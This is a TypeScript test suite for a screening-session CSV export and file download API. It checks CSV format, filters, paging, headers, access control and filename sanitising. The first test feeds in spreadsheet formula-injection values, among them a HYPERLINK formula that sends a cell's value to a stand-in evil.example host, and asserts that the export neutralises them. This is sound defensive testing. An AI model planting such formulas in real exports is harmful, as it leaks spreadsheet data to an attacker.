import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { days, plus } from "#kernel/clock.ts";
import { newId } from "#kernel/ids.ts";
import { createScreeningBuilders } from "../../../../test/build-screening.ts";
import { startTestServer, type TestServer } from "../../../../test/server.ts";

let server: TestServer;
let screening: ReturnType<typeof createScreeningBuilders>;
before(async () => {
  server = await startTestServer();
  screening = createScreeningBuilders(server);
});
after(() => server.close());

const path = "/api/v1/screening_sessions.csv";

/** The cells of RFC 4180, read by its grammar. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let rest = text;
  for (let row: string[] = []; rest !== ""; ) {
    const match = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest);
    assert.ok(match, `no cell: ${rest.slice(0, 40)}`);
    row.push((match[1] ?? match[2] ?? "").replaceAll('""', '"'));
    if (match[3] !== ",") rows.push(row.splice(0));
    rest = rest.slice(match[0].length);
  }
  return rows;
}

/** The lines as objects by the first one's names. `fetch` drops the byte-order mark of a text, so bytes are looked at. */
async function read(token: string, query = ""): Promise<Record<string, string>[]> {
  const response = await fetch(`${server.url}${path}?${query}`, {
    headers: { authorization: `Bearer ${token}` },
  });
  assert.equal(response.status, 200);
  const bytes = Buffer.from(await response.arrayBuffer());
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const [head = [], ...rows] = parse(bytes.subarray(3).toString());
  return rows.map((row) => Object.fromEntries(head.map((name, index) => [name, row[index] ?? ""])));
}

async function world() {
  const organization = await server.build.organization();
  const coach = await server.build.member(organization, "Coach");
  const { id: workflowTemplateId, slug } = await screening.template(organization);
  const contactId = await screening.contact(organization, "jane@example.com");
  return { organization, coach, workflowTemplateId, slug, contactId };
}

test("each question of the chosen template has a column, those of earlier versions too, and hostile texts stay texts", async () => {
  const { organization, coach, workflowTemplateId, contactId } = await world();
  const own = { contactId, workflowTemplateId };
  const hostile = {
    fullName: '=HYPERLINK("http://evil.example?"&A1,"click")',
    moveInDate: "+49 30 1",
    budget: -12.5,
    pets: '@SUM(1),"quoted"\r\nand a second line',
  };
  const first = await screening.session(organization, { ...own, submission: hostile });
  await server.db.query("update contacts set name = $2, phone = $3 where id = $1", [
    contactId,
    "\t=1+1",
    "-1",
  ]);
  await server.db.query(
    `insert into workflow_questions (organization_id, workflow_template_id, version, questions, created_at)
     values ($1, $2, 2, $3, $4)`,
    [
      organization,
      workflowTemplateId,
      JSON.stringify([
        { key: "pets", label: "Pets", type: "several_of", required: false, options: ["cat", "dog"] },
        { key: "status", label: "Status", type: "yes_no", required: false },
        { key: "lease", label: "Lease", type: "file", required: false },
      ]),
      server.clock(),
    ],
  );
  await server.db.query("update workflow_templates set questions_version = 2 where id = $1", [
    workflowTemplateId,
  ]);
  const file = { id: newId(), name: "=lease.pdf", type: "application/pdf", size: 3 };
  const second = await screening.session(organization, {
    ...own,
    submission: { pets: ["cat", "dog"], status: false, lease: file },
    createdAt: plus(server.clock(), -days(1)),
  });
  await server.api(coach.token).patch(`/api/v1/sessions/${second}/review`, {
    reviewStatus: "denied",
    reviewNotes: "=no",
  });
  const rows = await read(coach.token, `workflowTemplateId=${workflowTemplateId}`);
  assert.deepEqual(
    rows.map((row) => [row.id, row.status, row.reviewStatus, row.reviewedBy, row.reviewNotes]),
    [
      [first, "completed", "pending_review", "", ""],
      [second, "completed", "denied", "Ada Lovelace", "'=no"],
    ],
  );
  const columns = Object.keys(rows[0] ?? {}).filter((name) => name.startsWith("submission"));
  assert.deepEqual(
    columns,
    ["pets", "status", "lease", "fullName", "moveInDate", "budget"].map((key) => `submission.${key}`),
  );
  assert.deepEqual(
    columns.map((name) => rows[0]?.[name]),
    [`'${hostile.pets}`, "", "", `'${hostile.fullName}`, `'${hostile.moveInDate}`, "-12.5"],
  );
  assert.deepEqual(
    columns.slice(0, 3).map((name) => rows[1]?.[name]),
    ["cat\ndog", "false", `'=lease.pdf (${file.id})`],
  );
  assert.deepEqual([rows[0]?.contactName, rows[0]?.contactPhone], ["'\t=1+1", "'-1"]);
});

test("without a template all answers stand in one column as JSON, and the list's filters hold", async () => {
  const { organization, coach, workflowTemplateId, contactId } = await world();
  const own = { contactId, workflowTemplateId };
  const one = await screening.session(organization, { ...own, submission: { fullName: "Zoë", budget: 1 } });
  const other = await screening.session(organization, { reviewStatus: "approved" });
  const expired = await screening.session(organization, { createdAt: plus(server.clock(), -days(30)) });
  const ids = async (query: string) => (await read(coach.token, query)).map(({ id }) => id);
  const [row] = await read(coach.token, `contactId=${contactId}`);
  assert.deepEqual(
    [row?.id, row?.submission, row?.templateName, row?.contactEmail],
    [one, '{"fullName":"Zoë","budget":1}', "Pre-screening", "jane@example.com"],
  );
  assert.deepEqual(new Set(await ids("")), new Set([one, other, expired]));
  assert.deepEqual(await ids("reviewStatus=approved"), [other]);
  assert.deepEqual(await ids("status=expired"), [expired]);
  assert.deepEqual(await ids(`workflowTemplateId=${workflowTemplateId}&status=active`), []);
});

test("a file of many pages has each session once, in the order of the list", async () => {
  const { organization, coach, workflowTemplateId, contactId } = await world();
  await server.db.query(
    `insert into screening_sessions (organization_id, id, contact_id, workflow_template_id, questions_version,
       submission, status, review_status, token_hash, version, created_at, updated_at, expires_at, completed_at)
     select $1, gen_random_uuid(), $2, $3, 1, '{}', 'completed', 'pending_review', gen_random_uuid(), 1, at, at,
       at + interval '30 days', at
     from (select $4::timestamptz - n / 7 * interval '1 second' as at from generate_series(1, 250) n) made`,
    [organization, contactId, workflowTemplateId, server.clock()],
  );
  const rows = await read(coach.token);
  const listed = [];
  for (const page of [1, 2]) {
    const { body } = await server.api(coach.token).get(`/api/v1/sessions?limit=200&page=${page}`);
    listed.push(...body.data.map(({ id }: { id: string }) => id));
  }
  assert.equal(rows.length, 250);
  assert.deepEqual(
    rows.map(({ id }) => id),
    listed,
  );
});

test("the file is an attachment for nobody's cache, and HEAD says the same without it", async () => {
  const { organization, coach, workflowTemplateId, slug } = await world();
  await screening.session(organization, { workflowTemplateId });
  const { headers } = await server.api(coach.token).get(`${path}?workflowTemplateId=${workflowTemplateId}`);
  const said = (from: Headers) =>
    ["content-type", "content-disposition", "cache-control", "x-content-type-options"].map((name) =>
      from.get(name),
    );
  assert.deepEqual(said(headers), [
    "text/csv; charset=utf-8; header=present",
    `attachment; filename="screening-${slug}-2026-03-02.csv"; filename*=UTF-8''screening-${slug}-2026-03-02.csv`,
    "private, no-store",
    "nosniff",
  ]);
  const head = await fetch(`${server.url}${path}?workflowTemplateId=${workflowTemplateId}`, {
    method: "HEAD",
    headers: { authorization: `Bearer ${coach.token}` },
  });
  assert.deepEqual([head.status, said(head.headers)], [200, said(headers)]);
});

test("Coach and up take the file, and keys with screening:read; nobody another organization's", async () => {
  const { organization, workflowTemplateId, contactId } = await world();
  await screening.session(organization, { workflowTemplateId, contactId });
  const codes = async (token: string | undefined, query = "") => {
    const { status, body } = await server.api(token).get(path + query);
    return status === 200 ? 200 : body.code;
  };
  const key = await server.build.apiKey(organization, ["screening:read"]);
  assert.equal(await codes(key.text), 200);
  assert.equal(
    await codes((await server.build.apiKey(organization, ["live:read"])).text),
    "insufficient_scope",
  );
  assert.equal(await codes((await server.build.member(organization, "Teacher")).token), "forbidden");
  assert.equal(await codes(undefined), "unauthenticated");
  const stranger = await server.build.member(await server.build.organization(), "Manager");
  assert.deepEqual(await read(stranger.token), []);
  assert.deepEqual(await read(stranger.token, `contactId=${contactId}`), []);
  assert.equal(await codes(stranger.token, `?workflowTemplateId=${workflowTemplateId}`), "not_found");
  assert.equal(await codes(key.text, "?workflowTemplateId=x&status=done"), "unprocessable");
});

test("a prospect's file is saved and never shown, by its own name, for the same readers alone", async () => {
  const { organization, coach, workflowTemplateId } = await world();
  const sessionId = await screening.session(organization, { workflowTemplateId });
  const [id, content] = [newId(), Buffer.from([0x25, 0x50, 0x44, 0x46, 0, 0xff])];
  await server.db.query(
    `insert into screening_files (organization_id, id, session_id, name, type, size, digest, content, created_at)
     values ($1, $2, $3, $4, 'application/pdf', $5, '', $6, $7)`,
    [organization, id, sessionId, `L\u00e9ase "1" (new)'s.pdf`, content.length, content, server.clock()],
  );
  const file = `/api/v1/screening_files/${id}`;
  const response = await fetch(server.url + file, { headers: { authorization: `Bearer ${coach.token}` } });
  assert.deepEqual(Buffer.from(await response.arrayBuffer()), content);
  const said = ["content-type", "content-disposition", "content-security-policy", "x-content-type-options"];
  assert.deepEqual(
    said.map((name) => response.headers.get(name)),
    [
      "application/octet-stream",
      `attachment; filename="L_ase _1_ _new__s.pdf"; filename*=UTF-8''L%C3%A9ase%20%221%22%20%28new%29%27s.pdf`,
      "default-src 'none'; sandbox",
      "nosniff",
    ],
  );
  const code = async (token: string | undefined) => (await server.api(token).get(file)).body.code;
  assert.equal(await code((await server.build.member(organization, "Teacher")).token), "forbidden");
  assert.equal(
    await code((await server.build.apiKey(organization, ["live:read"])).text),
    "insufficient_scope",
  );
  assert.equal(await code(undefined), "unauthenticated");
  const stranger = await server.build.member(await server.build.organization(), "Manager");
  assert.equal(await code(stranger.token), "not_found");
});
